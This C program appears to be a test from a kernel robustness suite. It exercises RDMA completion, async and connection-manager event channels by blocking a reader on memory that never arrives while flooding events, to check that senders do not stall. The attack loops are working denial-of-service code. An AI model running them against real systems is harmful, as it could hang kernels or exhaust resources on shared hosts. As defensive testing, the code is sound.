/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * events cq|async|cm: read events into memory that never comes, and cause more and more of them. Whoever sends them must
 * not wait for the reader.
 */
#include "stuck.h"
#include "vt.h"

#include <arpa/inet.h>
#include <pthread.h>
#include <unistd.h>

#include <rdma/rdma_cma.h>

enum { EVENT_BYTES = 1024, PAUSE_US = 200 };

static int events_fd;
static void *never;

static void *
read_for_ever(void *arg)
{
	if (read(events_fd, never, EVENT_BYTES) < 0)
		perror("read");
	return NULL;
}

static void
start_reader(int fd)
{
	pthread_t thread;

	events_fd = fd;
	if (pthread_create(&thread, NULL, read_for_ever, NULL) != 0)
		attack_die("pthread_create");
}

/* Completions, one event each. */
static void
attack_engine(struct vt *t)
{
	struct ibv_comp_channel *ch = ibv_create_comp_channel(t->ctx);
	struct ibv_cq *cq = ch != NULL ? vt_cq(t, VT_DEPTH, ch) : NULL;
	struct ibv_qp *qp = cq != NULL ? vt_qp(t, IBV_QPT_RC, cq, cq) : NULL;
	struct ibv_wc wc;

	if (qp == NULL)
		attack_die("no QP");
	vt_connect(t, qp, qp);
	start_reader(ch->fd);
	for (unsigned int i = 0;; i++) {
		if (ibv_req_notify_cq(cq, 0) != 0)
			usleep(PAUSE_US);
		vt_send(t, qp, IBV_WR_RDMA_WRITE, i, 8, IBV_SEND_SIGNALED);
		if (!vt_poll(cq, &wc))
			attack_die("no completion");
		if (i == 100)
			attack_begun();
	}
}

/* A QP that goes to ERR again and again: LAST_WQE_REACHED each time. */
static void
attack_async(struct vt *t)
{
	struct ibv_srq_init_attr sa = { .attr = { .max_wr = 16, .max_sge = 1 } };
	struct ibv_cq *cq = vt_cq(t, VT_DEPTH, NULL);
	struct ibv_qp_init_attr qa = { .send_cq = cq, .recv_cq = cq, .srq = ibv_create_srq(t->pd, &sa), .qp_type = IBV_QPT_RC,
				       .cap = { .max_send_wr = 1, .max_send_sge = 1 } };
	struct ibv_qp *qp = qa.srq != NULL ? ibv_create_qp(t->pd, &qa) : NULL;
	struct ibv_qp_attr a;

	if (qp == NULL)
		attack_die("no QP");
	start_reader(t->ctx->async_fd);
	for (unsigned int i = 0;; i++) {
		if (ibv_modify_qp(qp, &a, vt_attr_init(qp, &a)) != 0)
			attack_die("INIT");
		a.qp_state = IBV_QPS_ERR;
		if (ibv_modify_qp(qp, &a, IBV_QP_STATE) != 0)
			attack_die("ERR");
		a.qp_state = IBV_QPS_RESET;
		if (ibv_modify_qp(qp, &a, IBV_QP_STATE) != 0)
			attack_die("RESET");
		usleep(PAUSE_US);
		if (i == 100)
			attack_begun();
	}
}

/* Addresses that nobody has. */
static void
attack_cm(void)
{
	struct rdma_event_channel *ch = rdma_create_event_channel();
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0xcb007101) };
	struct rdma_cm_id *id;

	if (ch == NULL)
		attack_die("no event channel");
	start_reader(ch->fd);
	for (unsigned int i = 0;; i++) {
		if (rdma_create_id(ch, &id, NULL, RDMA_PS_TCP) != 0)
			attack_die("no id");
		if (rdma_resolve_addr(id, NULL, (struct sockaddr *)&to, 1) != 0 && errno != EAGAIN)
			perror("rdma_resolve_addr");
		usleep(PAUSE_US);
		if (i == 100)
			attack_begun();
	}
}

int
main(int argc, char **argv)
{
	struct vt t = { 0 };

	if (argc != 2)
		attack_die("usage: events cq|async|cm");
	stuck_mount();
	never = stuck_memory();
	if (strcmp(argv[1], "cm") == 0)
		attack_cm();
	vt_begin(&t);
	if (strcmp(argv[1], "async") == 0)
		attack_async(&t);
	attack_engine(&t);
}
